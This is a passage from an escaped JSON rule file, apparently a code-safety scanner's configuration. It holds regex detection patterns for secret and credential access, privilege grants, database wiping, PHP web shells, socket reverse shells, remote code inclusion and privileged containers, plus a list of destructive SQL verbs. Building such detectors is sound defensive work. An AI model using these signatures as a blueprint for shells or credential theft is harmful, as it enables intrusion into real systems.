-?:\\"\\\\d+\\"|\\\\w+))*|\\\\w+(?:\\\\s*[+\\\\/]\\\\s*(?:\\"\\\\d+\\"|\\\\w+))*|\\\\([^()]*\\\\))","$1($2)"],["\\\\b(callProcess|readProcess|rawSystem)\\\\s+(\\"\\\\d+\\")\\\\s+(\\\\[[^\\\\[\\\\]]*\\\\]\
-)","spawn($2, $3)"],["\\\\b(writeFile|appendFile)\\\\s+(\\"\\\\d+\\"|\\\\w+|\\\\([^()]*\\\\))\\\\s+(\\"\\\\d+\\"|\\\\w+)","$1($2, $3)"]]},"octave":{"comment":"[%#][^\\\\n]*","texts":"\\\
-"((?:[^\\"\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)\\"|(?<![\\\\w)\\\\]}])'((?:[^'\\\\n]|'')*)'","rewrites":[["\\\\brmdir\\\\s*\\\\(([^(),]*),\\\\s*\\"\\\\d+\\"\\\\s*\\\\)","rm_rf($1)"],["\\\\b(?:delete|unl\
-ink)\\\\s*\\\\(","remove("],["\\\\b(?:unix|dos|shell_cmd)\\\\s*\\\\(","system("],["\\\\bfullfile\\\\s*\\\\(","join_path("],["\\\\{([^{};]*\\"[^{};]*)\\\\}","[$1]"],["\\\\[\\\\s*(\\"\\\\d+\\\
-")\\\\s+(?=[\\"\\\\w])","[$1, "],["\\\\bfor\\\\s+(\\\\w+)\\\\s*=\\\\s*(\\\\[[^\\\\[\\\\]]*\\\\]|\\\\w+)","for ($1 of $2);"],["(\\\\b[a-z]\\\\w*)\\\\{[\\\\w:]+\\\\}","$1"]]}},"awk":{"comment":["#"\
-],"sigils":"","interpolation":"none","triple":false,"single_escapes":true,"quoting":"none","patterns":true,"lines":"statements"},"operators":{"||":1,"??":1,"or"\
-:1,"&&":2,"and":2,"==":3,"!=":3,"===":3,"!==":3,"<":3,">":3,"<=":3,">=":3,"=~":3,"in":3,"is":3,"..":3,"|":4,"^":5,"&":6,"<<":7,">>":7,"+":8,"-":8,".":8,"*":9,"/\
-":9,"%":9,"//":9,"x":9,"**":10},"sql":[{"words":[["TRUNCATE"],["TABLE"]],"does":"truncate","name":2},{"words":[["TRUNCATE"]],"does":"truncate","name":1},{"words\
-":[["CREATE"],["USER","ROLE","LOGIN"]],"does":"create-user","name":2},{"words":[["ALTER"],["USER","ROLE","LOGIN"]],"does":"alter-user","name":2},{"words":[["ALT\
-ER"],["SYSTEM"]],"does":"set-global","name":3},{"words":[["SET"],["GLOBAL","PERSIST"]],"does":"set-global","name":2},{"words":[["PRAGMA"],["WRITABLE_SCHEMA"]],"\
-does":"set-global","name":1},{"words":[["GRANT"]],"does":"grant","all":true},{"words":[["REVOKE"]],"does":"revoke","all":true},{"words":[["SHUTDOWN"]],"does":"s\
-hutdown"},{"words":[["ATTACH"],["DATABASE"]],"does":"attach","name":2},{"words":[["ATTACH"]],"does":"attach","name":1},{"words":[["KILL"]],"does":"kill","name":\
-1},{"words":[["FLUSHALL","FLUSHDB"]],"does":"flush","name":0},{"words":[["CREATE"],["DATABASE","SCHEMA"]],"does":"create","name":2},{"words":[["PURGE"]],"does":\
-"purge","name":1},{"words":[["CONFIG"],["SET"],["DIR","DBFILENAME"]],"does":"set-global","name":2},{"words":[["RESET"],["MASTER","REPLICA","SLAVE"]],"does":"pur\
-ge","name":1}],"signs":{"name-tests":["[=!<>]=|[<>]|\\\\b(?:in|match)\\\\b|=~|\\\\b(?:endswith|startswith|endsWith|startsWith|includes|test|match|search|end_with\\\\?|s\
-tart_with\\\\?)"],"kind-tests":["is_?(?:dir|file|link|symlink)|isDirectory|isFile|isSymbolicLink|exists|(?:directory|file|exist)\\\\?|-[dfel]\\\\b","i"],"age-tests":[\
-"[acm]time|birthtime|\\\\bst_size|getsize|\\\\.size\\\\b|file(?:size|mtime)|\\\\s-[MAC]\\\\s"],"secret-methods":["^(?:get|batch_?get)_?secret_?values?$|^(?:access_?secret\
-_?version|get_?secret|read_?secret(?:_?version)?|get_?(?:frozen_?)?credentials)$|^(?:list|read)_?(?:namespaced_?)?secret(?:_?for_?all_?namespaces)?$","i"],"gran\
-ting-methods":["^(?:attach|put)_?(?:user|role|group)_?policy(?:_?command)?$|^authorize_?security_?group_?ingress(?:_?command)?$|^(?:create_?access_?key|add_?use\
-r_?to_?group|put_?bucket_?(?:policy|acl))(?:_?command)?$","i"],"emptying-methods":["^(?:empty|obliterate|clear|drop|flush_?(?:all|db|database))(?:_?(?:async|syn\
-c))?$|^(?:refresh|drop|reset|clear|wipe|truncate|purge)_?(?:all|db|database|schema|tables?|collections?|storage)(?:_?(?:async|sync))?$","i"],"own-addresses":["\\\
-\\blocalhost\\\\b|\\\\b127\\\\.\\\\d|\\\\b0\\\\.0\\\\.0\\\\.0\\\\b|\\\\[?::1\\\\b|^(?:unix|file|sqlite):|^\\\\.{0,2}/"],"service-options":["api_?key|token|secret|credential|password|aut\
-horization|access_?key|^(?:basic_?)?auth$|^endpoint$|^(?:base|prefix|org|server|api)_?ur[li]$|^(?:hosts?|servers?|brokers|bootstrap_?servers)$|(?:project|accoun\
-t|subscription|site|space|app|tenant)_?id$","i"],"service-variables":["TOKEN|KEY|SECRET|PASS|PAT$|AUTH|CRED|ACCOUNT|ENDPOINT|DSN|(?:UR[LI]|HOST|_ID|SID|DOMAIN|S\
-ERVER)$"],"service-addresses":["^(?:https?|wss?|grpcs?|nats|amqps?|ldaps?)://[^/]|^(?:[\\\\w-]+\\\\.)+(?:com|net|org|io|dev|local|internal|cloud|corp)(?::\\\\d+)?$|^\\\
-\\d+\\\\.\\\\d+\\\\.\\\\d+\\\\.\\\\d+(?::\\\\d+)?$"],"own-data-modules":["^(?:\\\\.{1,2}|@|~)/(?:[\\\\w./-]*[/.-])?(?:db|database|data-?source|orm|prisma|knex|sequelize|mongoose|m\
-odels?)(?:[/.-]|$)","i"],"client-makers":["^[A-Z]|^(?:create|connect|init|make|open|new|from|extend|with|get_?client)|(?:client|driver|session|pool|engine|conne\
-ction|sdk|api)$","i"],"negative-tests":["\\\\bnot\\\\b|!=|!~|!\\\\s*\\\\(?[\\\\w.]+|\\\\bunless\\\\b|\\\\breject\\\\b"],"skips":["\\\\b(?:continue|next|return)\\\\b"],"stdin-names":[\
-"^(?:0|-|/dev/(?:stdin|fd/0)|/proc/self/fd/0|php://stdin)$"],"mock-options":["^(?:spec|spec_set|autospec|create|name|unsafe|new_callable|target|attribute|new)$"\
-],"writing-flags":["^File\\\\.(?:Constants\\\\.)?(?:WRONLY|RDWR|CREAT|TRUNC|APPEND)$|^(?:os|fs\\\\.constants|constants)?\\\\.?O_(?:WRONLY|RDWR|CREAT|TRUNC|APPEND)$"],"s\
-ending-methods":["gist|upload|put_?object|comment|send|post","i"],"deleting-requests":["^\\\\w* DELETE(?: /|$)|^(?:action|op|operation|method|_op_type) [dD]elete|\
-\\\\bmutation\\\\b[\\\\s\\\\S]*(?:\\\\bdelete|Delete)\\\\w*\\\\s*\\\\("],"place-options":["ur[li]|host|server|endpoint|address|database|^db|file|storage|^path$|dsn","i"],"passi\
-ng-data":["^memory://|:memory:|^(?:sqlite\\\\w*(?:\\\\+\\\\w+)?:/{2,3})?/tmp/|^sqlite://$|^mock$"],"passing-databases":["^(?::memory:$|/(?:tmp|var/tmp|dev/shm)/(?!.*\\\
-\\.\\\\.))|^(?:[\\\\w.-]+/)*(?:test|tests|tmp|scratch)(?:[_-][\\\\w-]*)?\\\\.(?:db|sqlite3?)$"],"harmless-names":["^(?:None|null|undefined|true|false|True|False|(?:\\\\w+\\\
-\\.)*\\\\w*(?:Error|Exception|DEFAULT|Exit|Interrupt))$"],"file-calls":["^(?:fs|FileUtils|File|Dir)\\\\.\\\\w+$|^(?:os\\\\.(?:remove|unlink|rmdir|removedirs|rename|repla\
-ce|truncate)|shutil\\\\.\\\\w+|pathlib\\\\.\\\\w+)$"],"imitation":["^[^#\\\\n]*(?:\\\\b(?:import|from)\\\\s+|require\\\\(\\\\s*)['\\"]?(?:fakeredis|mongomock|pymongo_inmemory|iore\
-dis-mock|redis-mock)\\\\b|^[^#\\\\n]*(?:\\\\b(?:import|from)\\\\s+|require\\\\(\\\\s*)['\\"]?(?:mongodb-memory-server|pg-mem|testcontainers)\\\\b|^from sqlalchemy import .*\\\\b\
-create_mock_engine\\\\b|\\\\b(?:miniredis\\\\.(?:Run|RunT|NewMiniRedis)|sqlmock\\\\.New|pgxmock\\\\.New\\\\w*|redismock\\\\.New\\\\w*)\\\\(|^(?![\\\\s\\\\S]*\\\\b(?:DBI|dbi):(?!Mock\\\\b\
-))[\\\\s\\\\S]*\\\\b(?:DBI|dbi):Mock:","m"],"links-repositories":["worktree|symlink|gitdir|git-dir|\\\\.git['\\"]"],"own-folder":["getcwd|\\\\bcwd\\\\(|__dirname|__file__|ab\
-spath|resolve|pwd"],"in-memory":["['\\"](?:sqlite3?:(?:\\\\/\\\\/)?|(?:dbi|DBI):SQLite:(?:dbname=)?)\\\\/(?:tmp|var\\\\/tmp|dev\\\\/shm)\\\\/(?![^'\\"]*\\\\.\\\\.)|['\\"](?:Data ?\
-Source=)?[\\\\w:=/+]*:memory:['\\";]|['\\"]jdbc:(?:h2|hsqldb|derby|sqlite)::?mem|\\\\bSQLite\\\\.DB\\\\(\\\\s*\\\\)|\\\\bSequel\\\\.sqlite\\\\b(?!\\\\s*\\\\(?\\\\s*['\\"])|['\\"]sqlite:\\\\/\
-\\\\/['\\"]"],"database":["\\\\b(?:mongodb|postgres|mysql|mariadb|redis|rediss|mssql|oracle)\\\\w*(?:\\\\+\\\\w+)?:\\\\/\\\\/|['\\"](?!django)[\\\\w./-]+\\\\.(?:db|sqlite3?)['\\"]",\
-"i"],"driver":["\\\\b(?:psycopg\\\\d?|asyncpg|aiopg|pymysql|MySQLdb|mysql2?|mariadb|cx_Oracle|oracledb|pyodbc|pymssql|pymongo|motor)\\\\b|\\\\b(?:mongoose|mongodb|iored\
-is|snowflake|clickhouse\\\\w*|DATABASE_URL|DB_URL)\\\\b|['\\"]pg['\\"]"],"own-connection":["(?:^|[\\\\n;])\\\\s*(?:from|import)\\\\s+(?!(?:sqlalchemy|sqlmodel|sqlite3|aiosq\
-lite|tempfile|os|sys|pathlib|shutil|json|re|time|datetime|contextlib|asyncio|typing|uuid|random|pytest|unittest|pandas|dataclasses|textwrap|subprocess|logging|d\
-ecimal|enum|collections|itertools|functools|alembic)\\\\b)\\\\w|['\\"](?:\\\\.{1,2}|@|~)\\\\/|\\\\bargv\\\\b|\\\\bsymlink|\\\\(\\\\s*['\\"][\\\\w./-]+\\\\.(?:db|sqlite3?)['\\"]|(?:sqlit\
-e3|apsw)\\\\.Connection|SqliteDatabase"],"emulated":["^(?![\\\\s\\\\S]*https?:\\\\/\\\\/(?!localhost|127\\\\.))[\\\\s\\\\S]*(?:UseDevelopmentStorage=true|\\\\bapi_base\\\\b[^\\\\n]*[\
-'\\"]http:\\\\/\\\\/(?:localhost|127\\\\.))"],"data-library":["(?:import|from|require\\\\(?|use)\\\\b[^\\\\n]{0,60}\\\\b(?:mikro-orm|typeorm|prisma|sequelize|drizzle|kysely|ob\
-jection|bookshelf|peewee)|(?:import|from|require\\\\(?|use)\\\\b[^\\\\n]{0,60}\\\\b(?:tortoise|pony|sqlalchemy|sqlmodel|databases|neo4j|cassandra)|(?:import|from|requir\
-e\\\\(?|use)\\\\b[^\\\\n]{0,60}\\\\b(?:rethinkdb|surrealdb|influx|libsql|neon|planetscale|duckdb|rq|bull)|\\\\b\\\\w*(?:DATABASE|DB|MONGO|REDIS|POSTGRES|PG|MYSQL)_?(?:URL|U\
-RI|DSN)\\\\b","i"],"database-address":["^(?![\\\\s\\\\S]*['\\"]sqlite:)[\\\\s\\\\S]*(?:\\\\w:\\\\/\\\\/|D(?:ATA)?B(?:ASE)?_UR[IL]\\\\b)"],"attaches":["\\\\bATTACH\\\\b","i"],"key-stor\
-e":["redis|valkey|keydb|memcache","i"],"unconditional":["^(?![\\\\s\\\\S]*(?:\\\\b(?:if|unless|next|select|reject|filter|break|limit|take|first|case)\\\\b|\\\\?))[\\\\s\\\\S]\
-*\\\\w"],"http-client":["^(?!(?:(?![\\\\s\\\\S]*(?:new [\\\\w\\\\\\\\]*Client\\\\b[\\\\s\\\\S]*){2})[\\\\s\\\\S]*\\\\bMock(?:Handler|HttpClient|Response)\\\\b)|[\\\\s\\\\S]*\\\\bHttp::fake\\\\b)\
-[\\\\s\\\\S]*\\\\b(?:GuzzleHttp|HttpClient)\\\\b"],"stubbed-services":["^(?![\\\\s\\\\S]*(?:Client|Resource)\\\\.new\\\\b(?!\\\\([^)]*\\\\bstub_responses: true\\\\b))[\\\\s\\\\S]*\\\\bstub\
-_responses: true\\\\b"],"faked-storage":["\\\\bStorage::fake\\\\("],"stubbed-requests":["^(?![\\\\s\\\\S]*\\\\bfetch\\\\([\\\\s\\\\S]*\\\\b(?:nock|fetch)\\\\()(?![\\\\s\\\\S]*(?:\\\\bif\\\\b\
-|\\\\?|process\\\\.env|readFile|enableNetConnect|restore|http2|child_process|globalThis|axios|\\\\bgot\\\\b|needle|superagent|undici|\\\\bky\\\\b|http://))(?=[\\\\s\\\\S]*?['\\"\
-]nock['\\"])[\\\\s\\\\S]*?\\\\bnock\\\\(\\\\s*['\\"\`](?<host>https://api\\\\.[\\\\w-]{1,40}\\\\.(?:com|io|org|dev))['\\"\`]\\\\)(?![\\\\s\\\\S]*['\\"\`](?!\\\\k<host>[/'\\"\`])https?:)|^(?![\\\\\
-s\\\\S]*(?:axios|(?:node|cross)-fetch|superagent|needle|\\\\bky\\\\b|request['\\"]|phin|bent|wretch|['\\"](?:got|https?|http2|net|node:\\\\w+|child_process)['\\"]|enableNe\
-tConnect|\\\\bif\\\\b))[\\\\s\\\\S]*\\\\bnew MockAgent\\\\(\\\\)[\\\\s\\\\S]*\\\\bdisableNetConnect\\\\(\\\\)[\\\\s\\\\S]*\\\\bsetGlobalDispatcher\\\\(|^(?![\\\\s\\\\S]*(?:allow_net_connect|disabl\
-e!|\\\\bif\\\\b|\\\\bunless\\\\b))(?=[\\\\s\\\\S]*?(?:\\\\brequire [\\"']webmock|\\\\binclude WebMock::API\\\\b))(?=[\\\\s\\\\S]*?(?:webmock/(?:rspec|minitest)[\\"']|WebMock\\\\.enable!)\
-)[\\\\s\\\\S]*?\\\\bstub_request\\\\b|^(?![\\\\s\\\\S]*(?:Guzzle|curl_|file_get_contents|allowStray|\\\\bif\\\\b|\\\\?|/\\\\*|//(?!\\\\w)|#|function|swap))(?![\\\\s\\\\S]*\\\\bHttp::(?!fak\
-e|response)[\\\\s\\\\S]*\\\\bHttp::fake)(?:[\\\\s\\\\S]*?[;\\\\n])?\\\\s{0,9}Http::fake\\\\(\\\\s*(?:\\\\)|\\\\[\\\\s*[\\"']\\\\*[\\"'])"],"dry-files":["^(?![\\\\s\\\\S]*\\\\b(?:FileUtils(?:\\\\.|\
-::(?![DN])\\\\w)|include FileUtils(?!::)|(?:class|module)\\\\s|(?:File(?!\\\\.join)|Dir|Pathname)\\\\b))[\\\\s\\\\S]*\\\\binclude FileUtils::(?:DryRun|NoWrite)\\\\b"],"lists-pr\
-ocesses":["^(?![\\\\s\\\\S]*\\\\b(?:if|select|grep|when|unless|filter)\\\\b[^\\\\n]*\\\\b(?:comm|cmdline|exe|status|environ|cwd)\\\\b)[\\\\s\\\\S]*[\\"']/proc(?:[\\"']|/(?:\\\\*|\\\\[|\
-\\\\\\\\d))"],"privileged-container":["^(?=[\\\\s\\\\S]*[dD]ocker)[\\\\s\\\\S]*?\\\\bHostConfig\\\\b[\\\\s\\\\S]{0,300}?(?:Privileged[\\"']?\\\\s?:\\\\s?true|Binds[\\"']?\\\\s?:\\\\s?(?:\\\\[\\\
-\\]string\\\\{|\\\\[)\\\\s{0,9}[\\"'\\\\x60](?:/|/(?:etc|root|home|var/run/docker\\\\.sock)(?:/[\\\\w.]{0,40})?):)"],"web-shell":["\\\\b(?:file_put_contents|fwrite|fputs|write\\\
-\\w*|open)\\\\([\\\\s\\\\S]{0,200}<\\\\?php[^\\\\n]{0,80}\\\\b(?:eval|system|exec|passthru|shell_exec|assert)\\\\(\\\\s*\\\\\\\\{0,2}\\\\$_(?:POST|GET|REQUEST|COOKIE)"],"survives-exit\
-":["\\\\bexit\\\\b(?<!\\\\b(?:sys|process)\\\\.exit)|\\\\.exit\\\\s*(?:=(?!=)|\\\\([^()\\\\n]*\\\\)\\\\s*(?:\\\\{|:))|\\\\b(?:mock|patch|stub\\\\w*|spyOn|setattr|defineProperty|Proxy|Sys\
-temExit|except|finally|catch|with|suppress|assign|delattr)\\\\b|\\\\bsys\\\\b(?!\\\\.(?:exit|argv|stdin|stdout|stderr|version\\\\w*|platform|executable|path)\\\\b)(?<!(?:^|\
-\\\\n)[ \\\\t]*import (?:\\\\w+, ?)*sys)|\\\\bprocess\\\\b(?!\\\\.(?:exit|argv|env|cwd|stdout|stderr|pid|platform|version)\\\\b)|\\\\b(?:sys|process)\\\\.\\\\w+\\\\s*=(?!=)"],"leaves\
--order":["\\\\\\\\\\\\r?\\\\n|\\\\bgoto\\\\b"],"variable-file":["(?:^|/)\\\\.env(?:\\\\.[\\\\w-]+)*$"],"network":["\\\\b(?:\\\\w*Socket|socket|net\\\\.(?:Listen|Dial|Conn)|http\\\\.(?:Re\
-quest|HandleFunc|ListenAndServe)|Tcp(?:Listener|Stream|Client)|gen_tcp|HttpListener|HttpServer)\\\\b"],"serves":["\\\\b(?:import|from)\\\\s+(?:flask|bottle|fastapi|st\
-arlette|quart|sanic|aiohttp|litestar|robyn)\\\\b"],"respawns":["^(?![\\\\s\\\\S]*(?:\\\\b(?:if|unless|case|switch|when|argv|ARGV|environ|env|ENV|sleep|reload|watch\\\\w*)\
-\\\\b|\\\\?|&&))[\\\\s\\\\S]*\\\\b(?:spawn|Popen|popen|fork|exec|execFile|proc_open|Start|start)\\\\w*[ (]{1,3}[^;\\\\n]{0,60}(?:execPath|executable|\\\\$\\\\^X|\\\\bruby)\\\\b[^;\\\\n\
-]{0,20}\\\\b(?:__filename|__file__|__FILE__|PROGRAM_NAME)\\\\s?\\\\]?\\\\)|^(?![\\\\s\\\\S]*(?:\\\\b(?:if|unless|case|switch|argv)\\\\b|\\\\?|&&))[\\\\s\\\\S]*(?:\\\\bfunction\\\\s{1,3}(\
-?<declared>\\\\w{1,40})\\\\s?\\\\([^)\\\\n]{0,99}\\\\)|\\\\b(?:const|let|var)\\\\s(?<arrow>\\\\w{1,40})\\\\s?=\\\\s?\\\\([^)\\\\n]{0,99}\\\\)\\\\s?=>)\\\\s?\\\\{[^}]{0,200}\\\\b(?:spawn|execFile\
-|exec|fork)\\\\w{0,9}\\\\([^;}]{0,100}(?:\\\\+ ?\\\\k<declared>\\\\k<arrow>\\\\b(?! ?\\\\()|\\\\$\\\\{\\\\k<declared>\\\\k<arrow>\\\\}|\\\\b\\\\k<declared>\\\\k<arrow>\\\\.toString\\\\()"],"remo\
-te-shell":["\\\\bcreateServer\\\\(\\\\s?(?:async\\\\s)?\\\\(?(?<asked>\\\\w{1,20})\\\\s?,\\\\s?\\\\w{1,20}\\\\)?\\\\s?=>[\\\\s\\\\S]{0,400}?\\\\b(?:exec|execSync|spawn|eval)\\\\((?=[^;\\\\n]{0\
-,80}\\\\b\\\\k<asked>\\\\.(?:url|body|query|headers)\\\\b)|^(?=[\\\\s\\\\S]*?(?:IO::Socket|\\\\bsocket\\\\s?\\\\())[\\\\s\\\\S]*\\\\$(\\\\w{1,40})\\\\s*=\\\\s*<\\\\$\\\\w{1,40}>[\\\\s\\\\S]{0,400}(?\
-:\\\\b(?:system|exec|qx|readpipe|open)\\\\b|\`)[^;\\\\n]{0,40}\\\\$\\\\1\\\\b|^(?=[\\\\s\\\\S]*?(?:createServer|net\\\\.connect|createConnection|net\\\\.Socket|WebSocket|require\\\\([\
-'\\"](?:node:)?(?:net|tls)['\\"]\\\\)))[\\\\s\\\\S]*?\\\\b(?<child>\\\\w{1,40})\\\\s?=\\\\s?(?:[\\\\w.]{0,40}(?:\\\\(\\\\s?['\\"\`][\\\\w:]{1,20}['\\"\`]\\\\s?\\\\))?\\\\.)?(?:spawn|execFile)\\\\s\
-?\\\\(\\\\s?['\\\\\\"\`](?:/usr)?(?:/bin/)?(?:ba|z|k|da)?sh['\\\\\\"\`][\\\\s\\\\S]{0,2000}?\\\\.pipe\\\\(\\\\s?\\\\k<child>\\\\.stdin|\\\\.(?:get|post|put|patch|all|use)\\\\(\\\\s?['\\\\\\"\`][^'\
-\\\\\\"\`\\\\n]{0,80}['\\\\\\"\`],\\\\s?(?:async\\\\s)?\\\\(?(?<request>\\\\w{1,20})\\\\s?,\\\\s?\\\\w{1,20}\\\\)?\\\\s?=>[\\\\s\\\\S]{0,400}?\\\\b(?:exec|execSync|spawn|spawnSync|eval)\\\\(\\\\s?(?\
-:String\\\\()?\\\\k<request>\\\\.(?:body|query|params)\\\\b|^(?=[\\\\s\\\\S]*?\\\\bnet\\\\.(?:Listen|Dial)\\\\()[\\\\s\\\\S]*\\\\bexec\\\\.Command\\\\(\\\\\\"(?:/usr)?(?:/bin/)?(?:ba|z|k|da)?\
-sh\\\\\\"(?:, ?\\\\\\"-i\\\\\\")?\\\\)[\\\\s\\\\S]{0,200}\\\\.Stdin\\\\b[^\\\\n=]{0,60}=\\\\s?\\\\w"],"business-objects":["\\\\benv\\\\[[\\"'][a-z]\\\\w*\\\\.[\\\\w.]+[\\"']\\\\]\\\\.(?:search|browse)\\\
-\\b"],"remote-code":["\\\\binclude\\\\(\\\\s?(?:Downloads\\\\.)?download\\\\(\\\\s?['\\"]https?://|(?:^|[;{}\\\\n])[ \\\\t]{0,40}(?:include|require)(?:_once)?[ \\\\t]{0,4}\\\\(?[ \\\\t\
-]{0,4}['\\"](?:https?|ftp)://(?!localhost|127\\\\.)|^(?![\\\\s\\\\S]*\\\\bgem\\\\b)(?:[\\\\s\\\\S]*[;\\\\n])?\\\\s{0,9}(?:devtools::)?source(?:_url)?\\\\(\\\\s?['\\\\\\"]https?://|^(?=[\\\
-\\s\\\\S]*?\\\\bfetch\\\\()(?=[\\\\s\\\\S]*?\\\\bimport\\\\(\\\\s?(?<module>['\\\\\\"][^'\\\\\\"\\\\n]{1,200}['\\\\\\"]))[\\\\s\\\\S]*\\\\b(?:Bun\\\\.write|writeFile(?:Sync)?|writeTextFile(?:Sync)\
-?)\\\\(\\\\s?\\\\k<module>"],"cluster-admin":["['\\"]cluster-admin['\\"]"],"role-methods":["^(?:create|patch|replace)_?(?:cluster_?|namespaced_?)role_?binding$","i"],"s\
-ets-names":["\\\\b(?:globals|vars|locals|setattr|exec|eval|extract|reload|FunctionType|CodeType)\\\\s*\\\\(|\\\\bimport\\\\s+\\\\*"],"reads-environment":["\\\\bprocess\\\\.env\\\
-\\b|\\\\bos\\\\.environ|\\\\bgetenv\\\\b"],"reaches-around":["\\\\b(?:patch(?:\\\\.\\\\w+)?|setattr)\\\\([^\\\\n]*\\\\)\\\\s+if\\\\b|\\\\bnullcontext\\\\b|__wrapped__|\\\\[['\\"]\\\\w+['\\"]\\\\]\\\\\
-(|mockImplementation\\\\(\\\\s*\\\\)|\\\\bPause\\\\b|\\\\b(?:globals|vars|locals|exec|eval|reload|__dict__|__builtins__|sys\\\\.modules|import_module|__import__|_getframe|f_g\
-lobals|gc\\\\.\\\\w+)\\\\b|\\\\b(?:temp_original|get_original|getOriginal|wrappedMethod|(?:require|import)Actual|importOriginal|require\\\\.cache|createRequire|getBuiltin\
-Module|binding)\\\\b|\\\\bimport\\\\s*\\\\*|\\\\bimport\\\\(\\\\s*(?!['\\"\`][/.])|\\\\bReflect\\\\.|\\\\bObject\\\\.(?:assign|definePropert\\\\w+|setPrototypeOf)\\\\(\\\\s*[\\\\w.]+\\\\s*,|\\\\bs\
-yncBuiltin\\\\w+|\\\\bWorker\\\\b|\\\\b(?:def|class|function)\\\\s+(?:patch|mock\\\\w*|\\\\w*Mock|Patcher|Stubber|responses|respx|sinon|jest|vi|nock|setupServer)\\\\b|\\\\.(?:pat\
-ch|object|\\\\w*Mock|spyOn|stub|method|mock_aws|activate|listen|disableNetConnect)\\\\s*=[^=]|\\\\bpatch\\\\s*="],"process-tests":["\\\\b(?:name|cmdline|comm|exe)\\\\b"],"n\
-ames-processes":["\\\\bif\\\\b[^\\\\n]*\\\\b(?:name|cmdline|cmd|exe|comm)\\\\b"],"several-connections":["(?:(?:create_engine|newInstance|getConnection|createConnection|ne\
-w PDO|new DataSource)\\\\s*\\\\([\\\\s\\\\S]*){2}"],"memory-broker":["^(?![\\\\s\\\\S]*(?:conf\\\\b(?!\\\\.task_\\\\w+ ?=)|config|#|\\\\bfrom\\\\s+(?!celery\\\\b)|\\\\bimport\\\\s+(?!Celer\
-y\\\\b)))[\\\\s\\\\S]*\\\\bCelery\\\\([^)\\\\n]*\\\\bbroker=['\\"]memory://['\\"]"],"connects":["connection|\\\\.{3}|Object\\\\.assign"],"installs-cron":["write_to_user|user\\\\s*="]\
-,"by-user":["\\\\busername\\\\b|\\\\buids?\\\\b|[\\"']\\\\w{0,2}[\\"']\\\\s+(?:not\\\\s+)?in\\\\b|\\\\b(?:includes|[sS]tarts_?[wW]ith|ends_?[wW]ith|find|search|match)\\\\(\\\\s*[\\"'/]\\\
-\\w{0,2}[\\"'/]"],"own-settings":["^(?![\\\\s\\\\S]*(?:HOST|database=|using=))[\\\\s\\\\S]*\\\\bsettings\\\\.configure\\\\("],"production":["\\\\bPROD(?:UCTION)?_\\\\w*(?:UR[LI]|DS\
-N|DB)\\\\b|://[^'\\"\\\\s]*\\\\bprod(?:uction)?[.-]"],"socket-shell":["^(?=[\\\\s\\\\S]*(?:IO::Socket|\\\\bsocket\\\\s*\\\\())[\\\\s\\\\S]*\\\\b(?:open\\\\s*\\\\(?\\\\s*STDIN\\\\s*,\\\\s*[\\"']?\
-[<>+]{0,2}&|STDIN\\\\s*->\\\\s*fdopen)"],"repeats":["\\\\b(?:while|for|foreach|until|loop|redo|goto|times|each\\\\w*|upto|downto|step|cycle|map|select|reduce|def|sub|fu\
-nc\\\\w*|fn|eval|exec\\\\w*|lambda|class|trap|require|include|load|__FILE__|argv|ARGV)\\\\b|->\\\\s*\\\\{|=>\\\\s*\\\\{|\\\\*\\\\s*\\\\d|\\\\bx\\\\s*\\\\d|\\\\bfork\\\\b(?:[\\\\s\\\\S]*?\\\\bfork\\\
-\\b){3}"],"limits":["\\\\bwhere\\\\s*\\\\("],"writes":["\\\\.write|dump|print\\\\s*[{$]|print\\\\([^)\\\\n]*\\\\bfile\\\\s*=|[\\\\w)]\\\\.(?:print|puts)\\\\b|fputs|fprintf|save|copy|pip\
-e|send|<<|to_\\\\w+\\\\(|fwrite|Writer"],"secret-names":["['\\"](?:\\\\w*_)?(?:TOKEN|KEY|SECRET|PASSW\\\\w*|PASS)(?:_\\\\w*)?['\\"]|\\\\b(?:TOKEN|SECRET|PASSWORD)\\\\|"],"encry\
-pts":["\\\\.encrypt\\\\(|createCipher|\\\\bcrypt\\\\.|open\\\\((\\\\w+), *[\\"']w[\\"']\\\\)\\\\.write\\\\( *open\\\\(\\\\1\\\\)"],"rolled-back":["^\\\\s*(?:BEGIN(?: TRANSACTION| WORK)?|ST\
-ART TRANSACTION);(?:\\\\s*(?:SELECT|INSERT|UPDATE|DELETE|SAVEPOINT|EXPLAIN|WITH)\\\\s[^;\\\\\\\\]*;)*\\\\s*ROLLBACK;?\\\\s*$","i"],"keeps-real":["bypass|pause|pass_?thr|add\
-_real|real_http|resume|session\\\\s*=|skip_names|modules_to_|use_known|use_cache|deactivate"],"other-imports":["^\\\\s*(?:from|import) (?!boto|moto|(?:os|sys|json|r\
-e|pytest|datetime)\\\\b)|^\\\\s*import [^\\\\n]*,\\\\s*(?!boto|moto|(?:os|sys|json|re)\\\\b)","m"],"several-clients":["(?:boto3\\\\.(?:client|resource)\\\\([\\\\s\\\\S]*){2}"],"o\
-ther-requests":["\\\\b(?:httpx|aiohttp|urllib\\\\d?|http\\\\.client|pycurl|socket)\\\\b"],"other-files":["^(?:import|from) (?:posix|nt|ctypes|_)","m"],"besides-httpx":[\
-"\\\\b(?:requests|aiohttp|urllib\\\\d?|http\\\\.client|pycurl|socket)\\\\b|assert_all_mocked|\\\\busing\\\\b|rollback"],"besides-fetch":["passthrough|bypass|['\\"](?:node:)?\
-(?:net|tls|dgram|http2)['\\"]|socket"],"besides-http":["enableNetConnect|restore|allowUnmocked|passthrough|\\\\bback\\\\b|recorder|NOCK_OFF|adapter|undici|superagent\
-|http2|['\\"](?:node:)?net['\\"]|globalThis|socket|\\\\bky\\\\b|^(?![\\\\s\\\\S]*\\\\bfetch\\\\b[^\\\\n;]{0,20}['\\"]node-fetch['\\"])[\\\\s\\\\S]*\\\\bfetch\\\\s*\\\\("]},"name_readers":[\
-["^[ \\\\t]*(?:from [\\\\w.]+ )?import (?!.*\\\\bas\\\\b)[\\\\w ,{}*.]*(?= from [\\"']|\\\\s*(?:[;\\\\n]|$))(?: from [\\\\\\"'][\\\\w:/.@-]+[\\\\\\"'])?|\\\\b(?:const|let|var) (?:\\\\w+|\\\
-\\{[\\\\w, ]+\\\\}) ?= ?(?:await import|require)\\\\([\\\\\\"'][\\\\w:/.@-]+[\\\\\\"']\\\\)(?=\\\\s*(?:[;,\\\\n]|$))|^\\\\s*require [\\\\\\"'][\\\\w/-]+[\\\\\\"']",""],["\\\\b(?:pathlib\\\\.)?Pat\
